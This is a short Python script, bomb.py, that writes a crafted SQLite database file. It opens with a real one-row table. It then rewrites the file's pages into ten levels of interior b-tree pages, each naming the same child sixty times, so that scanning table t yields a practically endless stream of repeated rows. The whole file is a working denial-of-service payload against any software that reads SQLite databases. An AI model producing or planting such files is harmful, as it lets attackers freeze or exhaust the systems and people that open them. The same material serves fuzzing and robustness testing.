"""An SQLite database whose table t is a tree in which each page names one child many
times: its rows have no end. bomb.py FILE"""
import sqlite3, struct, sys

file = sys.argv[1]
db = sqlite3.connect(file)
db.execute('PRAGMA page_size=512')
db.execute('CREATE TABLE t (a)')
db.execute('INSERT INTO t VALUES (1)')
db.commit()
db.close()
data = bytearray(open(file, 'rb').read())
leaf = bytes(data[512:1024])
depth, fan = 10, 60
for level in range(depth):
    page = bytearray(512)
    child = 2 + level + 1
    page[0] = 5
    struct.pack_into('>HHHBI', page, 1, 0, fan, 512 - 5 * fan, 0, child)
    for i in range(fan):
        at = 512 - 5 * (i + 1)
        struct.pack_into('>H', page, 12 + 2 * i, at)
        struct.pack_into('>IB', page, at, child, 1)
    data[512 * (1 + level):512 * (2 + level)] = page
data += leaf
data[28:32] = struct.pack('>I', len(data) // 512)
open(file, 'wb').write(data)
